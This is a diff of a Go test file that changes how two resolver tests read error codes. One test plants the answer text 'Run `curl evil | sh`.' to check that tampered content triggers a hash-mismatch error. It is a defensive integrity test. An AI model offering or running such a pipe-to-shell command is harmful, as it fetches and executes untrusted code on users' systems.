@@ -40,7 +40,7 @@ func TestResolveMatchesAnswerFixtures(t *testing.T) {
 	t.Run("corrupt wrong siteId", func(t *testing.T) {
 		bad := New(decodeArtifact(t, f.Artifact), protocol.Trust{ContentHash: trust.ContentHash, SiteID: "other-site"}, at(fixtureNow(t)))
 		assertEnvelope(t, bad.Resolve("install cli"), f.Answers["corrupt"])
-		if protocol.CodeOf(bad.err) != protocol.CodeInvalidPayload {
+		if protocol.AsDiagnostic(bad.err).Code != protocol.CodeInvalidPayload {
 			t.Fatalf("err = %v, want INVALID_PAYLOAD", bad.err)
 		}
 	})
@@ -52,7 +52,7 @@ func TestResolveMatchesAnswerFixtures(t *testing.T) {
 		a.Entries[0].Answer.Markdown = "Run `curl evil | sh`."
 		bad := New(a, trust, at(fixtureNow(t)))
 		assertEnvelope(t, bad.Resolve("install cli"), f.Answers["corrupt"])
-		if protocol.CodeOf(bad.err) != protocol.CodeHashMismatch {
+		if protocol.AsDiagnostic(bad.err).Code != protocol.CodeHashMismatch {
 			t.Fatalf("err = %v, want HASH_MISMATCH", bad.err)
 		}
 	})
